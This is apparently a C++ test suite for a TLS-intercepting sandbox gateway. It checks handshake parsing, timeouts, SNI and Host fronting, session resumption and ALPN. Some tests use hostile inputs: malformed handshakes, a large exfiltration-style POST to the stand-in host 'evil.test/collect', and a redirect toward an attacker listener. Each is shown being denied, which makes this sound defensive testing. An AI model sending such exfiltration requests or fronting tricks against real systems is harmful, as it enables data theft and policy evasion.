// What a client in the sandbox can do with a hello, against the real gateway.

#include <doctest/doctest.h>
#include <fmt/format.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

#include "tests/support/sealed_gateway.hpp"

using namespace sallyport;
using namespace sallyport::test;

namespace {

const std::string kAddress = "192.0.2.7";  // nobody's: what the client dials is only recorded

std::string policy_for(std::uint16_t port) {
    return fmt::format("[[allow]]\nhost = \"api.test\"\nport = {}\nprivate = true\n", port);
}

std::string get(const std::string& host, std::uint16_t port) {
    return fmt::format("GET /x HTTP/1.1\r\nHost: {}:{}\r\nConnection: close\r\n\r\n", host, port);
}

/// An origin for api.test over TLS that answers every request with "hello".
std::unique_ptr<WireOrigin> tls_origin() {
    return std::make_unique<WireOrigin>(
        [](WirePeer& peer) {
            while (peer.read_message().starts_with("GET /x "))
                peer.send("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello");
        },
        testing::make_server(SealedGateway::origin_ca().good("api.test")));
}

/// The client's first flight, taken before it is sent.
std::string hello_of(SSL* ssl) {
    SSL_set_bio(ssl, BIO_new(BIO_s_mem()), BIO_new(BIO_s_mem()));
    SSL_do_handshake(ssl);
    char* data = nullptr;
    const long size = BIO_get_mem_data(SSL_get_wbio(ssl), &data);
    return {data, static_cast<std::size_t>(size)};
}

/// The same message in records of `size` bytes.
std::string in_records_of(std::size_t size, const std::string& record) {
    const auto body = record.substr(5);
    std::string out;
    for (std::size_t at = 0; at < body.size(); at += size) {
        const auto piece = body.substr(at, size);
        out += std::string("\x16\x03\x01", 3) + '\0' + static_cast<char>(piece.size()) + piece;
    }
    return out;
}

void send_byte_by_byte(WirePeer& peer, const std::string& bytes) {
    const int on = 1;
    ::setsockopt(peer.fd(), IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    for (const char byte : bytes) peer.send({&byte, 1});
}

const std::vector<std::pair<std::string, std::string>> kNames = {{"api.test", "127.0.0.1"}};

}  // namespace

TEST_CASE("hello: in segments of one byte, in records of one byte, in both") {
    const auto origin = tls_origin();
    const auto gateway = SealedGateway::start(policy_for(origin->port()), kNames);
    if (!gateway) return;
    for (int way = 0; way < 3; ++way) {
        CAPTURE(way);
        auto ssl = gateway->tls_client("api.test");
        auto hello = hello_of(ssl.get());
        if (way > 0) hello = in_records_of(way == 1 ? 100 : 1, hello);
        auto client = gateway->connect(kAddress, origin->port());
        send_byte_by_byte(client, hello);
        REQUIRE(client.start_tls(std::move(ssl)) == "");
        client.send(get("api.test", origin->port()));
        CHECK(client.read_to_end().ends_with("\r\n\r\nhello"));
    }
    const auto events = gateway->finish();
    CHECK(events.size() == 3);
    for (const auto& event : events) {
        CHECK(event["decision"] == "allow");
        CHECK(event["host"] == "api.test");
        CHECK(event["original_dst"] == fmt::format("{}:{}", kAddress, origin->port()));
    }
}

TEST_CASE("hello: garbage, SSLv2, oversized, none that has one meaning: reset and recorded, nothing dialled") {
    const auto origin = tls_origin();
    const auto gateway = SealedGateway::start(policy_for(origin->port()), kNames);
    if (!gateway) return;
    const std::string oversized =
        in_records_of(100, std::string(5, '\0') + std::string("\x01\x00\xff\xff", 4) + std::string(20'000, 'x'));
    const std::string sslv2("\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10", 11);
    const std::string alert("\x15\x03\x01\x00\x02\x02\x28", 7);
    const std::string not_a_hello("\x16\x03\x01\x00\x04\x02\x00\x00\x00", 9);
    for (const auto& bytes : {oversized, sslv2, alert, not_a_hello, std::string(64, '\xff')}) {
        auto client = gateway->connect(kAddress, origin->port());
        client.send(bytes);
        CHECK(client.is_reset());
    }
    CHECK(origin->connections() == 0);
    const auto events = gateway->finish();
    CHECK(events.size() == 5);
    for (const auto& event : events) {
        CHECK(event["event"] == "connection");
        CHECK(event["decision"] == "deny");
        CHECK(event["reason"] != "");
    }
}

TEST_CASE("hello: half of one and then silence is cut off at the time limit, and recorded") {
    session::TimeLimits limits;
    limits.hello = std::chrono::seconds(1);
    const auto gateway = SealedGateway::start(policy_for(443), kNames, limits);
    if (!gateway) return;
    auto ssl = gateway->tls_client("api.test");
    const auto hello = hello_of(ssl.get());
    auto half = gateway->connect(kAddress, 443);
    half.send(hello.substr(0, 50));
    auto whole = gateway->connect(kAddress, 443);  // and nothing of the handshake after it
    whole.send(hello);
    auto silent = gateway->connect(kAddress, 443);
    CHECK(half.is_reset());
    whole.read_to_end();
    CHECK(silent.closed());
    const auto events = gateway->finish();
    REQUIRE(events.size() == 3);
    for (const auto& event : events) CHECK(std::string(event["reason"]).starts_with("time limit"));
}

TEST_CASE("the name is the virtual address's where there is no SNI, and an unknown address stands for itself") {
    const auto origin = tls_origin();
    const auto gateway = SealedGateway::start(policy_for(origin->port()), kNames);
    if (!gateway) return;
    const auto virtual_address = gateway->lookup("api.test");
    REQUIRE(virtual_address.starts_with("198.1"));
    auto client = gateway->connect(virtual_address, origin->port());
    auto ssl = gateway->tls_client("");
    SSL_set1_host(ssl.get(), "api.test");
    REQUIRE(client.start_tls(std::move(ssl)) == "");
    client.send(get("api.test", origin->port()));
    CHECK(client.read_to_end().ends_with("\r\n\r\nhello"));

    auto literal = gateway->connect_tls(kAddress, origin->port(), "");
    literal.send(get("api.test", origin->port()));  // the connection was made for the address: no fronting
    CHECK(literal.read_message().starts_with("HTTP/1.1 421 "));
    auto denied = gateway->connect_tls(kAddress, 443, "");
    denied.send("GET / HTTP/1.1\r\nHost: " + kAddress + "\r\n\r\n");
    CHECK(denied.read_message().starts_with("HTTP/1.1 403 "));
    CHECK(origin->connections() == 1);
}

TEST_CASE("SNI in upper case is the same name; SNI that is an address is that address; SNI that is no name is reset") {
    const auto origin = tls_origin();
    const auto gateway = SealedGateway::start(policy_for(origin->port()), kNames);
    if (!gateway) return;
    auto upper = gateway->connect_tls(kAddress, origin->port(), "API.Test");
    upper.send(get("aPi.teSt", origin->port()));
    CHECK(upper.read_to_end().ends_with("\r\n\r\nhello"));
    auto address = gateway->connect_tls(kAddress, 443, "127.0.0.1");
    address.send("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
    CHECK(address.read_message().starts_with("HTTP/1.1 403 "));
    auto bad = gateway->connect(kAddress, 443);
    CHECK(bad.start_tls(gateway->tls_client("not a name")) != "");
    CHECK(origin->connections() == 1);
}

TEST_CASE("an allowed SNI towards an attacker's address reaches the real host; the attacker gets nothing") {
    const auto origin = tls_origin();
    // The same port, on another loopback address that the client dials and that the gateway could reach.
    const UniqueFd attacker(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
    const Endpoint at{IpAddress::parse("127.66.6.6").value(), origin->port()};
    sockaddr_storage storage{};
    const auto size = at.to_sockaddr(storage);
    REQUIRE(::bind(attacker.get(), reinterpret_cast<sockaddr*>(&storage), size) == 0);
    REQUIRE(::listen(attacker.get(), 8) == 0);
    // Dialled as a public address: 127/8 would stay inside the sandbox. A route proves the listener reachable.
    const auto gateway = SealedGateway::start(policy_for(origin->port()) + "[[allow]]\nhost = \"evil.test\"\nport = " +
                                                  std::to_string(origin->port()) + "\nprivate = true\n",
                                              {{"api.test", "127.0.0.1"}, {"evil.test", "127.66.6.6"}});
    if (!gateway) return;
    const auto evil = gateway->lookup("evil.test");
    auto client = gateway->connect_tls(evil, origin->port(), "api.test");
    client.send(get("api.test", origin->port()));
    CHECK(client.read_to_end().ends_with("\r\n\r\nhello"));
    CHECK(::accept(attacker.get(), nullptr, nullptr) < 0);
    CHECK(origin->connections() == 1);
}

TEST_CASE("SNI and Host that differ are a 421, a name that nothing allows a 403 that can be read") {
    const auto origin = tls_origin();
    const auto gateway = SealedGateway::start(
        policy_for(origin->port()) + fmt::format("[[allow]]\nhost = \"other.test\"\nport = {}\n", origin->port()),
        kNames);
    if (!gateway) return;
    auto fronting = gateway->connect_tls(kAddress, origin->port(), "api.test");
    fronting.send(get("other.test", origin->port()));
    CHECK(fronting.read_message().starts_with("HTTP/1.1 421 "));
    auto denied = gateway->connect_tls(kAddress, 443, "evil.test");
    denied.send("POST /collect?q=1 HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 8000000\r\n\r\n");
    denied.send(std::string(8'000'000, 'x'));  // all of it, before the answer is read
    const auto page = denied.read_to_end();
    CHECK(page.starts_with("HTTP/1.1 403 "));
    CHECK(page.find("POST https://evil.test/collect?q=1") != std::string::npos);
    CHECK(page.find("[[allow]]\nhost   = \"evil.test\"") != std::string::npos);
    CHECK(origin->connections() == 0);
    const auto events = gateway->finish();
    REQUIRE(events.size() == 2);
    CHECK(events[0]["status"] == 421);
    CHECK(events[1]["status"] == 403);
}

TEST_CASE("TLS 1.2 and 1.3, sessions resumed for their own name only; renegotiation is refused") {
    const auto origin = tls_origin();
    const auto gateway = SealedGateway::start(policy_for(origin->port()), kNames);
    if (!gateway) return;
    for (const int version : {TLS1_2_VERSION, TLS1_3_VERSION}) {
        CAPTURE(version);
        tls::SessionPtr session;
        for (const std::string name : {"api.test", "api.test", "other.test"}) {
            auto ssl = gateway->tls_client(name);
            SSL_set_min_proto_version(ssl.get(), version);
            SSL_set_max_proto_version(ssl.get(), version);
            if (session) SSL_set_session(ssl.get(), session.get());
            const bool first = session == nullptr;
            auto client = gateway->connect(kAddress, origin->port());
            REQUIRE(client.start_tls(std::move(ssl)) == "");
            CHECK(SSL_version(client.ssl()) == version);
            CHECK(SSL_session_reused(client.ssl()) == (!first && name == "api.test"));
            client.send(get(name, origin->port()));
            const auto answer = client.read_message();
            CHECK(answer.starts_with(name == "api.test" ? "HTTP/1.1 200 " : "HTTP/1.1 403 "));
            session.reset(SSL_get1_session(client.ssl()));
            client.shutdown_write();  // a session whose connection was not closed in order is not resumed
        }
    }
    auto ssl = gateway->tls_client("api.test");
    SSL_set_max_proto_version(ssl.get(), TLS1_2_VERSION);
    auto client = gateway->connect(kAddress, origin->port());
    REQUIRE(client.start_tls(std::move(ssl)) == "");
    REQUIRE(SSL_renegotiate(client.ssl()) == 1);
    CHECK(SSL_do_handshake(client.ssl()) != 1);
}

TEST_CASE("ALPN: http/1.1 is chosen from [h2, http/1.1]; h2 alone is taken, and nothing else, with an alert") {
    const auto origin = tls_origin();
    const auto gateway = SealedGateway::start(policy_for(origin->port()), kNames);
    if (!gateway) return;
    const auto offer = [&](std::string_view protocols) {
        auto ssl = gateway->tls_client("api.test");
        SSL_set_alpn_protos(ssl.get(), reinterpret_cast<const unsigned char*>(protocols.data()),
                            static_cast<unsigned>(protocols.size()));
        return ssl;
    };
    auto both = gateway->connect(kAddress, origin->port());
    REQUIRE(both.start_tls(offer("\x02h2\x08http/1.1")) == "");
    const unsigned char* chosen = nullptr;
    unsigned size = 0;
    SSL_get0_alpn_selected(both.ssl(), &chosen, &size);
    CHECK(std::string(reinterpret_cast<const char*>(chosen), size) == "http/1.1");
    auto h2 = gateway->connect(kAddress, origin->port());
    CHECK(h2.start_tls(offer("\x02h2")) == "");  // any version can be turned into any other
    auto neither = gateway->connect(kAddress, origin->port());
    CHECK(neither.start_tls(offer("\x08http/0.9")) == "tlsv1 alert no application protocol");
    CHECK(origin->connections() == 1);  // to ask for its versions
}

TEST_CASE("a client that does not trust the gateway's CA is recorded as that") {
    const auto gateway = SealedGateway::start(policy_for(443), kNames);
    if (!gateway) return;
    const tls::SslCtxPtr context(SSL_CTX_new(TLS_client_method()));
    SSL_CTX_set_verify(context.get(), SSL_VERIFY_PEER, nullptr);
    tls::SslPtr ssl(SSL_new(context.get()));
    SSL_set_connect_state(ssl.get());
    SSL_set_tlsext_host_name(ssl.get(), "api.test");
    auto client = gateway->connect(kAddress, 443);
    CHECK(client.start_tls(std::move(ssl)) == "certificate verify failed");
    CHECK(client.is_reset());
    const auto events = gateway->finish();
    REQUIRE(events.size() == 1);
    CHECK(std::string(events[0]["reason"]).find("does not trust") != std::string::npos);
}
